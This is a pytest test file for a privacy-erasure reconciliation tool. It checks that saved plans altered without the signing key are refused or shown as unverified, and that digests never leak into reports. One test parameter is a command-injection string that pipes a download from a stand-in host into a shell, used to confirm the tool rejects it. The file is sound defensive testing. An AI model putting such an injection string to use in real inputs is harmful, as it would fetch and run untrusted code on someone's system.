"""A saved plan is shown as what it is: the one that was made, or one of which nobody can tell."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mixpriv_reconcile.codec import canonical

from .workspace import Workspace

WITHOUT_KEY = {"MIXPRIV_DIGEST_KEY": None}
FORMATS = ("text", "json", "markdown", "html")
REPORTS = ("json", "markdown", "html", "junit", "sarif", "github")


@pytest.fixture
def planned(workspace: Workspace) -> Workspace:
    """A workspace with a saved plan that erases four ids in two requests."""
    workspace.project("web", big=["u1", "u2", "u3"], small=["v1"])
    workspace.run("plan", "--out", "good.plan")
    return workspace


def forged(workspace: Workspace, change: Callable[[Any], None]) -> Path:
    """The saved plan, changed, with a checksum that fits: what anybody can make without the key."""
    document = json.loads((workspace.root / "good.plan").read_text())
    seal = document.pop("seal")
    del document["checksum"]
    change(document)
    path = workspace.root / "evil.plan"
    path.write_text(json.dumps({**document, "checksum": hashlib.sha256(canonical(document)).hexdigest(), "seal": seal}))
    return path


def without_the_big_one(document: Any) -> None:
    document["resource_changes"] = [one for one in document["resource_changes"] if "big" not in one["address"]]
    del document["declared"]["web.deletions.big"]
    document["totals"]["erases"] = 1


def gentler(document: Any) -> None:
    """What the digest doesn't cover: a number in a total."""
    document["totals"]["erases"] = 1


@pytest.mark.parametrize("change", [without_the_big_one, gentler])
@pytest.mark.parametrize("form", FORMATS)
def test_a_forged_plan_is_not_shown_where_the_key_is(planned: Workspace, change: Callable[[Any], None], form: str) -> None:
    """Whoever has the key sees that somebody altered the plan, as apply does: exit 4, and nothing of it is shown."""
    forged(planned, change)
    ended = planned.run("show", "evil.plan", "--format", form, "--report", "github=-", code=4)
    assert "MP0620" in ended.both
    assert "Erases" not in ended.both
    assert "MP0620" in planned.run("apply", "evil.plan", code=4).err


@pytest.mark.parametrize("form", FORMATS)
def test_without_the_key_each_format_says_that_the_plan_is_not_verified(planned: Workspace, form: str) -> None:
    """A job without the key gets the plan with a warning and without a digest that could approve it."""
    digest = planned.plan()["digest"]
    forged(planned, gentler)
    shown = planned.run("show", "evil.plan", "--format", form, environment=WITHOUT_KEY)
    assert "verified" in shown.out
    assert "MP0673" in shown.out
    assert digest not in shown.both
    assert digest[:64] not in shown.both


def test_without_the_key_each_report_says_so(planned: Workspace) -> None:
    """Each report has the warning, no report has the digest, and the output for `--expect` is empty."""
    digest, outputs = planned.plan()["digest"], planned.root / "outputs"
    outputs.touch()
    reports = [part for name in REPORTS for part in ("--report", f"{name}=report.{name}")]
    environment = {**WITHOUT_KEY, "GITHUB_OUTPUT": str(outputs)}
    planned.run("show", "good.plan", *reports, environment=environment)
    for name in REPORTS:
        text = (planned.root / f"report.{name}").read_text()
        assert "MP0673" in text, name
        assert digest[:64] not in text, name
    assert "\ndigest=\n" in outputs.read_text()
    assert "warnings=1" in outputs.read_text()


@pytest.mark.parametrize("digest", ["", "0" * 64, 'abc" ; curl evil.example | sh ; "'])
def test_a_digest_that_is_not_the_plans_own_is_damage(planned: Workspace, digest: str) -> None:
    """Also without the key a plan is held against its digest, which has the form of one."""
    forged(planned, lambda document: document.update(digest=digest))
    for change in (None, without_the_big_one):
        if change is not None:
            forged(planned, change)
        ended = planned.run("show", "evil.plan", "--report", "github=-", code=1, environment=WITHOUT_KEY)
        assert "MP0621" in ended.err
        assert "curl" not in ended.both


def test_a_genuine_plan_is_shown_as_it_was_made(planned: Workspace) -> None:
    """With the key a plan that nobody altered is shown with its digest, and without a word about verifying."""
    shown = planned.run("show", "good.plan")
    assert planned.plan()["digest"] in shown.out
    assert "verified" not in shown.both
